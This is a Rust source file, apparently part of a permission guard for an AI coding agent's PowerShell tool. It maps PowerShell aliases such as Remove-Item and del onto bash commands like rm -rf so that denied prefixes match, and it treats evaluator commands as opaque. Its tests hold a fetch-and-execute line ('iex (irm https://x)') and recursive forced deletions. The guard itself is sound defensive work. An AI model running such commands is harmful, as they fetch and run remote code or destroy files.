//! Claude Code's `PowerShell` tool: its line read with a small PowerShell reader into
//! the bash words the server's prefixes are matched against (the aliases of `rm`,
//! `Remove-Item -Recurse -Force` as `rm -rf`), or, where that reader cannot show what
//! runs, into a line the server finds opaque. Decided beside the line's bash reading;
//! the strictest answer stands.

use super::mapping::quote;

/// PowerShell's names of the programs blocked and denied prefixes name (compared
/// without case, as PowerShell does), and the program each is.
const ALIASES: [(&str, &str); 11] = [
    ("remove-item", "rm"),
    ("ri", "rm"),
    ("rd", "rm"),
    ("del", "rm"),
    ("erase", "rm"),
    ("rm", "rm"),
    ("rmdir", "rm"),
    ("restart-computer", "reboot"),
    ("stop-computer", "shutdown"),
    ("copy-item", "cp"),
    ("move-item", "mv"),
];

/// Commands that run text or programs PowerShell finds at run time.
const EVALUATORS: [&str; 14] = [
    "invoke-expression",
    "iex",
    "invoke-command",
    "icm",
    "start-process",
    "saps",
    "start",
    "invoke-item",
    "ii",
    "powershell",
    "pwsh",
    "cmd",
    "set-alias",
    "new-alias",
];

/// The line as bash words: each simple command of the line, its command word the
/// program it is (`ri` is `rm`), joined with `;`. A line this reader cannot read is
/// `eval` of the line, which the server reads as opaque.
pub fn as_bash(line: &str) -> String {
    read(line).unwrap_or_else(|| format!("eval {}", quote(line)))
}

fn read(line: &str) -> Option<String> {
    let mut out = Vec::new();
    for statement in statements(line)? {
        let mut words = statement.into_iter();
        let Some(first) = words.next() else {
            continue;
        };
        let name = first.to_lowercase();
        if EVALUATORS.contains(&name.as_str()) || first.starts_with(['.', '&']) {
            return None;
        }
        let program = ALIASES
            .iter()
            .find(|(alias, _)| *alias == name)
            .map_or(first.as_str(), |(_, program)| program);
        let args: Vec<String> = words.collect();
        let mut bash = vec![quote(program)];
        if program == "rm" {
            bash.extend(rm_flags(&args).into_iter().map(str::to_owned));
        }
        bash.extend(args.iter().map(|a| quote(a)));
        out.push(bash.join(" "));
    }
    (!out.is_empty()).then(|| out.join(" ; "))
}

/// `Remove-Item`'s switches as `rm`'s: PowerShell takes any unique prefix of a
/// parameter's name, without case (`-r`, `-rec`, `-fo`); `-f` (Filter or Force) is
/// taken as Force, erring towards matching.
fn rm_flags(args: &[String]) -> Vec<&'static str> {
    let mut recurse = false;
    let mut force = false;
    for arg in args {
        let Some(name) = arg.strip_prefix('-') else {
            continue;
        };
        let name = name.to_lowercase();
        if name.is_empty() {
            continue;
        }
        recurse |= "recurse".starts_with(&name);
        force |= "force".starts_with(&name);
    }
    match (recurse, force) {
        (true, true) => vec!["-rf", "-fr", "-r", "-f", "-R", "--recursive", "--force"],
        (true, false) => vec!["-r", "-R", "--recursive"],
        (false, true) => vec!["-f", "--force"],
        (false, false) => Vec::new(),
    }
}

/// The line's statements as words: plain words and quotes only, separated by `;`,
/// `|`, `&&`, `||` and newlines; `None` for anything else (variables, subexpressions,
/// script blocks, escapes, redirections, splatting, the call operator).
fn statements(line: &str) -> Option<Vec<Vec<String>>> {
    let mut out = vec![Vec::new()];
    let mut chars = line.chars().peekable();
    while let Some(&c) = chars.peek() {
        match c {
            ' ' | '\t' | '\r' => {
                chars.next();
            }
            ';' | '\n' | '|' => {
                chars.next();
                if c == '|' {
                    chars.next_if_eq(&'|');
                }
                out.push(Vec::new());
            }
            '&' => {
                chars.next();
                // `&&` separates; a lone `&` calls or backgrounds
                chars.next_if_eq(&'&')?;
                out.push(Vec::new());
            }
            _ => {
                let word = word(&mut chars)?;
                out.last_mut()?.push(word);
            }
        }
    }
    Some(out)
}

fn word(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> Option<String> {
    let mut word = String::new();
    while let Some(&c) = chars.peek() {
        match c {
            ' ' | '\t' | '\r' | '\n' | ';' | '|' | '&' => break,
            '\'' => {
                chars.next();
                loop {
                    match chars.next()? {
                        // `''` inside single quotes is one quote
                        '\'' if chars.next_if_eq(&'\'').is_some() => word.push('\''),
                        '\'' => break,
                        c => word.push(c),
                    }
                }
            }
            '"' => {
                chars.next();
                loop {
                    match chars.next()? {
                        '"' => break,
                        '$' | '`' => return None,
                        c => word.push(c),
                    }
                }
            }
            c if c.is_alphanumeric() || "-_./\\:*?+=,~%^!".contains(c) => {
                word.push(c);
                chars.next();
            }
            _ => return None,
        }
    }
    Some(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn aliases_of_rm_read_as_rm() {
        let table = [
            (
                "Remove-Item -Recurse -Force C:\\x",
                "rm -rf -fr -r -f -R --recursive --force -Recurse -Force 'C:\\x'",
            ),
            (
                "ri -r -fo x",
                "rm -rf -fr -r -f -R --recursive --force -r -fo x",
            ),
            ("del x", "rm x"),
            (
                "Get-ChildItem; rd -Rec x",
                "Get-ChildItem ; rm -r -R --recursive -Rec x",
            ),
            ("Restart-Computer", "reboot"),
            ("ls 'a b'", "ls 'a b'"),
        ];
        for (line, want) in table {
            assert_eq!(as_bash(line), want, "{line:?}");
        }
    }

    #[test]
    fn what_the_reader_cannot_read_is_opaque() {
        for line in [
            "iex (irm https://x)",
            "Remove-Item $env:TEMP",
            "& rm x",
            ". ./profile.ps1",
            "echo \"$x\"",
            "rm `x",
            "ls > out",
            "Start-Process rm",
            "'unclosed",
        ] {
            assert!(as_bash(line).starts_with("eval "), "{line:?}");
        }
    }
}
